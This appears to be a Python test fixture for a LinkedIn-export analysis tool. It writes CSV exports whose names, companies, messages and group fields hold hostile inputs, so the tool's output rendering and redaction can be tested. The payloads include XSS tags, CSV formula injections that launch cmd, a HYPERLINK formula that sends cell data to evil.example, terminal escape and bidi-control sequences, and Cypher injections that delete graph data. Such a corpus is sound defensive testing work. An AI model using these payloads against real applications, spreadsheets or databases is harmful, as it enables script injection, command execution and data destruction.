"""A hostile corpus: what anyone can type into their LinkedIn name, headline, company or group, written
into a team's exports in the real formats (LinkedIn export folder, groups CSV).

Every payload that could run names something this module can look for afterwards: the elements it
would create carry ``pwned`` in an id or tag name, the scripts it would run set ``data-pwned`` on the
page; formulas and escape sequences are recognised by their first characters.
"""

from __future__ import annotations

import csv
from pathlib import Path

MARKUP = [
    "<script>document.documentElement.setAttribute('data-pwned','script')</script>",
    "<img src=x id=pwned-img onerror=\"document.documentElement.setAttribute('data-pwned','img')\">",
    "\"><svg id=pwned-svg onload=\"document.documentElement.setAttribute('data-pwned','svg')\">",
    "'><b id='pwned-quote' onmouseover='alert(1)'>x</b>",
    "</style><script id=pwned-style>document.documentElement.setAttribute('data-pwned','style')</script>",
    "</script><pwned-tag id=pwned-close>closed</pwned-tag>",
    "</textarea></title><iframe id=pwned-frame srcdoc='<script>parent.document.title=1</script>'>",
    "<a id=pwned-link href=\"javascript:document.documentElement.setAttribute('data-pwned','href')\">click</a>",
    "javascript:alert(document.domain)",
    "<!--<img src=x id=pwned-comment onerror=alert(5)>-->",
    "<base href=http://evil.example/><link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "{{ 7*7 }} {% raw %}${7*7}",
]
MARKDOWN = [
    "[click me](javascript:alert(1))",
    "![pixel](http://evil.example/pixel.png)",
    "<https://evil.example/autolink>",
    "www.evil.example and https://evil.example/plain",
    "contact evil@evil.example",
    "**bold** _em_ `code` ~~strike~~ | cell | $x$",
    "[ref]: http://evil.example/ref",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=cmd|' /C notepad'!'A1'",
]
ESCAPES = [
    "\x1b[31mRED\x1b[0m \x1b[2J\x1b[H",
    "\x1b]8;;http://evil.example\x1b\\hyperlink\x1b]8;;\x1b\\",
    "\x1b]0;owned title\x07bell",
    "\u202eevil\u202c reversed",
    "\u2066isolate\u2069 and \u200fmark",
    "zero\u200bwidth\u200djoiner\ufeffbom",
    "\x9b31m C1 CSI",
]
QUOTES = ['O\'Brien "the" “quoted” «guillemets» ‘single’ `tick`']
CYPHER = ["') MATCH (n) DETACH DELETE n //", '"}) RETURN 1 UNION MATCH (n) SET n.pwned = true //']
LONG = ["Long" + "é" * 9996]  # a 10,000-character name

PAYLOADS = MARKUP + MARKDOWN + FORMULAS + ESCAPES + QUOTES + CYPHER + LONG

OWNER = "Alice Membre"
OWNER_URL = "https://www.linkedin.com/in/alice-membre"
TEAMMATE = "Bruno Membre"
TEAMMATE_URL = "https://www.linkedin.com/in/bruno-membre"
# A team member whose own name is hostile: it is in the report's tables and in its SVG charts.
HOSTILE_MEMBER = (
    "<svg id=pwned-member onload=\"document.documentElement.setAttribute('data-pwned','member')\">"
    "Carole \x1b[31m\u202eMembre"
)
HOSTILE_MEMBER_URL = "https://www.linkedin.com/in/carole-membre"
TOPIC = "cybersécurité"
# Profile URLs that must never become links.
BAD_URLS = ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>"]


def contact(index: int) -> dict:
    """The index-th hostile contact: every field a payload, a title that matches the topic."""
    count = len(PAYLOADS)
    first = PAYLOADS[index]
    last = f"Hostile{index}"
    url = BAD_URLS[index % 2] if index % 7 == 3 else f"https://www.linkedin.com/in/hostile-{index}"
    return {
        "first": first,
        "last": last,
        "name": f"{first} {last}",
        "company": PAYLOADS[(index + 1) % count] + f" Corp{index}",
        "position": f"Directeur {TOPIC} " + PAYLOADS[(index + 2) % count],
        "url": url,
        "email": f"hostile{index}@example.com",
    }


CONTACTS = [contact(i) for i in range(len(PAYLOADS))]
# Strangers whose invitation the owner never accepted: their names are payloads too.
INVITERS = [
    {"name": f"{payload} Invitant{i}", "url": f"https://www.linkedin.com/in/invitant-{i}"}
    for i, payload in enumerate((MARKUP[0], MARKDOWN[0], FORMULAS[0], ESCAPES[2]))
]


def _write(path: Path, header: list[str], rows: list[list[str]], preamble: str = "") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write(preamble)
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(header)
        writer.writerows(rows)


def write_exports(folder: Path) -> dict[str, list[Path]]:
    """The owner's LinkedIn export (connections, messages, invitations), the teammate's connections,
    and a groups CSV, every text field of them hostile. Returns the files per owner."""
    alice, bruno = folder / "alice", folder / "bruno"
    notes = 'Notes:\n"' + PAYLOADS[0].replace('"', '""') + ' <b id=pwned-notes>notes</b>"\n\n'
    _write(
        alice / "Connections.csv",
        ["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"],
        [
            [c["first"], c["last"], c["url"], c["email"], c["company"], c["position"], "12 Mar 2019"]
            for c in CONTACTS
        ]
        + [["Bruno", "Membre", TEAMMATE_URL, "", "Équipe", "Commercial", "01 Feb 2018"]],
        preamble=notes,
    )
    messages = []
    for number, c in enumerate(CONTACTS):
        for month in (7, 8, 9, 10):
            messages.append(
                [
                    f"conv-{number}",
                    c["first"],
                    OWNER,
                    OWNER_URL,
                    c["name"],
                    c["url"],
                    f"2026-{month:02d}-0{1 + number % 9} 10:00:00 UTC",
                    c["company"],
                    PAYLOADS[(number + month) % len(PAYLOADS)],
                    "INBOX",
                ]
            )
            messages.append(
                [
                    f"conv-{number}",
                    "",
                    c["name"],
                    c["url"],
                    OWNER,
                    OWNER_URL,
                    f"2026-{month:02d}-1{number % 9} 11:00:00 UTC",
                    "",
                    PAYLOADS[number],
                    "INBOX",
                ]
            )
    _write(
        alice / "messages.csv",
        [
            "CONVERSATION ID",
            "CONVERSATION TITLE",
            "FROM",
            "SENDER PROFILE URL",
            "TO",
            "RECIPIENT PROFILE URLS",
            "DATE",
            "SUBJECT",
            "CONTENT",
            "FOLDER",
        ],
        messages,
    )
    _write(
        alice / "Invitations.csv",
        ["From", "To", "Sent At", "Message", "Direction", "inviterProfileUrl", "inviteeProfileUrl"],
        [
            [OWNER, c["name"], "3/12/19, 10:00 AM", PAYLOADS[-(i + 1)], "OUTGOING", OWNER_URL, c["url"]]
            for i, c in enumerate(CONTACTS)
        ]
        # pending invitations to the owner from hostile strangers (graphintro inbox lists them)
        + [
            [c["name"], OWNER, "10/2/26, 9:00 AM", PAYLOADS[-i], "INCOMING", c["url"], OWNER_URL]
            for i, c in enumerate(INVITERS)
        ],
    )
    _write(
        bruno / "Connections.csv",
        ["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"],
        [
            [c["first"], c["last"], c["url"], c["email"], c["company"], c["position"], "05 Jan 2021"]
            for c in CONTACTS[::3]
        ]
        + [["Alice", "Membre", OWNER_URL, "", "Équipe", "Commerciale", "01 Feb 2018"]],
    )
    carole = folder / "carole"
    _write(
        carole / "Connections.csv",
        ["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"],
        [
            [c["first"], c["last"], c["url"], c["email"], c["company"], c["position"], "05 Jan 2022"]
            for c in CONTACTS[1::4]
        ]
        + [["Alice", "Membre", OWNER_URL, "", "Équipe", "Commerciale", "01 Feb 2018"]],
    )
    groups = folder / "groups.csv"
    _write(
        groups,
        ["group", "name", "url", "role", "posts", "description"],
        [
            [
                PAYLOADS[i % len(PAYLOADS)] + f" {TOPIC}",
                c["name"],
                c["url"],
                "owner" if i % 2 else "member",
                str(10 + i),
                PAYLOADS[(i + 5) % len(PAYLOADS)],
            ]
            for i, c in enumerate(CONTACTS)
        ],
    )
    return {OWNER: [alice, groups], TEAMMATE: [bruno], HOSTILE_MEMBER: [carole]}


def import_store(folder: Path) -> Path:
    """The corpus written to ``folder`` and imported as the CLI imports it (each member's files with
    their owner): the store every output test renders from."""
    from typer.testing import CliRunner

    from graphintro.cli import app

    files = write_exports(folder)
    db = folder / "hostile.db"
    runner = CliRunner()
    for owner, url in ((OWNER, OWNER_URL), (TEAMMATE, TEAMMATE_URL), (HOSTILE_MEMBER, HOSTILE_MEMBER_URL)):
        for path in files[owner]:
            result = runner.invoke(
                app, ["--db", str(db), "import", str(path), "--owner", owner, "--owner-url", url]
            )
            assert result.exit_code == 0, result.output
    return db


def identifying_strings(person: dict) -> list[str]:
    """What names a non-member: a redacted output holds none of these."""
    return [
        person["name"],
        person["last"],
        person["company"],
        person["position"],
        person["url"],
        person["email"],
    ]
